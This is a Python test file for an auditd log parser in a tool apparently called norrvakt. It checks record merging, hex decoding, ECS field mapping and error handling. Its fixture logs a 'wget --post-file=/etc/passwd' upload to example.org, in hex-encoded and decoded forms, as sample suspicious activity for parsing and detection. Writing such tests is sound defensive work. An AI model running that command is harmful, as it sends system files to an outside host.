"""norrvakt.parsers.auditd: the records of one audit event → one normalized event.

The records are written for these tests after the kernel's and auditd's record layout.
"""

from __future__ import annotations

from norrvakt.event import KIND_PIPELINE_ERROR, Event, RawRecord
from norrvakt.parsers import parse_record
from tests.parsers.golden import check_invariants

HEAD = "msg=audit(1764680000.123:4242):"
EXEC = [
    f"node=web1 type=SYSCALL {HEAD} arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 "
    'items=2 ppid=910 pid=4711 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="wget" exe="/usr/bin/wget" '
    'key="susp_activity"\x1dARCH=x86_64 SYSCALL=execve AUID="anna" UID="root"',
    f'node=web1 type=EXECVE {HEAD} argc=3 a0="wget" a1="--post-file=/etc/passwd" '
    "a2=687474703A2F2F6578616D706C652E6F7267202F",
    f"node=web1 type=CWD {HEAD} cwd=2F686F6D652F616E6E612F6D7920646F6373",
    f'node=web1 type=PATH {HEAD} item=0 name="/usr/bin/wget" inode=1 dev=08:01 mode=0100755 nametype=NORMAL',
    f'node=web1 type=PATH {HEAD} item=1 name="/lib64/ld-linux-x86-64.so.2" inode=2 nametype=NORMAL',
    f"node=web1 type=PROCTITLE {HEAD} proctitle=77676574002D2D706F73742D66696C653D2F6574632F70617373776400",
]


def _parse(*lines: str) -> tuple[RawRecord, Event]:
    record = RawRecord(
        "lulea", "audisp", 1_764_680_001_000_000, "192.0.2.7:40000", "\n".join(lines).encode(), "auditd"
    )
    event = parse_record(record)
    check_invariants(record, event)
    return record, event


def test_an_exec_event_is_one_event_with_every_record() -> None:
    _, e = _parse(*EXEC)
    assert e.kind == "event"
    f = e.fields
    assert f["auditd.types"] == "SYSCALL EXECVE CWD PATH PATH PROCTITLE"
    assert f["type"] == "SYSCALL" and f["exe"] == "/usr/bin/wget"  # the first record, unprefixed
    assert f["SYSCALL.a0"] == "55d0" and f["EXECVE.a0"] == "wget"  # each record under its type
    assert f["PATH.name"] == "/usr/bin/wget" and f["PATH.1.name"] == "/lib64/ld-linux-x86-64.so.2"
    assert f["PATH.1.type"] == "PATH" and f["auditd.serial"] == "4242"


def test_hex_fields_are_decoded() -> None:
    _, e = _parse(*EXEC)
    f = e.fields
    assert f["EXECVE.a2"] == "http://example.org /"
    assert f["CWD.cwd"] == "/home/anna/my docs"
    assert f["PROCTITLE.proctitle"] == "wget --post-file=/etc/passwd"  # NULs are spaces, the last one gone


def test_ecs_of_an_exec_event() -> None:
    _, e = _parse(*EXEC)
    assert e.ts == 1_764_680_000_123_000
    assert e.ecs == {
        "event.kind": "event",
        "event.dataset": "auditd.log",
        "event.module": "auditd",
        "event.provider": "SYSCALL",
        "event.action": "execve",
        "event.category": "process",
        "event.type": "start",
        "event.outcome": "success",
        "host.name": "web1",
        "user.id": "1000",
        "user.name": "anna",
        "process.pid": "4711",
        "process.name": "wget",
        "process.executable": "/usr/bin/wget",
        "process.command_line": "wget --post-file=/etc/passwd http://example.org /",
        "file.path": "/usr/bin/wget",
    }
    assert e.message == (
        "SYSCALL execve by anna: wget --post-file=/etc/passwd http://example.org / [key susp_activity]"
    )


def test_split_execve_argument_is_joined() -> None:
    _, e = _parse(
        f'type=SYSCALL {HEAD} arch=c000003e syscall=59 success=yes exit=0 auid=1000 uid=1000 comm="sh" '
        'exe="/bin/sh"',
        f'type=EXECVE {HEAD} argc=2 a0="sh" a1_len=10 a1[0]=2D63206563686F a1[1]="_hi"',
    )
    assert e.fields["EXECVE.a1"] == "-c echo_hi"
    assert "EXECVE.a1[0]" not in e.fields


def test_raw_log_format_gets_the_syscall_name_from_the_table() -> None:
    _, e = _parse(
        f"type=SYSCALL {HEAD} arch=c000003e syscall=133 success=no exit=-13 auid=4294967295 uid=0 "
        'comm="mknod" exe="/usr/bin/mknod"'
    )
    f = e.fields
    assert f["SYSCALL"] == "mknod" and f["_syscall_named"] == "1"
    assert e.ecs["event.outcome"] == "failure" and e.ecs["user.id"] == "0"
    assert "user.name" not in e.ecs


def test_user_space_record_reads_its_msg_fields() -> None:
    _, e = _parse(
        "type=USER_LOGIN msg=audit(1764680001.5:99): pid=812 uid=0 auid=1000 ses=4 subj=unconfined "
        'msg=\'op=login acct="anna" exe="/usr/sbin/sshd" hostname=? addr=192.0.2.50 terminal=ssh res=failed\''
    )
    assert e.ecs["event.action"] == "user_login" and e.ecs["event.outcome"] == "failure"
    assert e.ecs["source.ip"] == "192.0.2.50" and e.ecs["event.category"] == "authentication"
    assert e.fields["acct"] == "anna" and e.fields["USER_LOGIN.op"] == "login"


def test_a_line_that_is_no_audit_record_is_a_pipeline_error_naming_the_offset() -> None:
    record, e = _parse(EXEC[0], "hello world")
    assert e.kind == KIND_PIPELINE_ERROR
    assert e.ecs["error.type"] == "auditd.bad_record"
    assert f"line at byte {len(EXEC[0]) + 1}" in e.ecs["error.message"]
    assert "audisp" in e.ecs["error.message"] and e.raw == record.payload


def test_records_of_two_serials_are_refused() -> None:
    _, e = _parse(EXEC[0], EXEC[1].replace(":4242)", ":4243)"))
    assert e.ecs["error.type"] == "auditd.mixed_serials"
    assert "serial 4243" in e.ecs["error.message"]
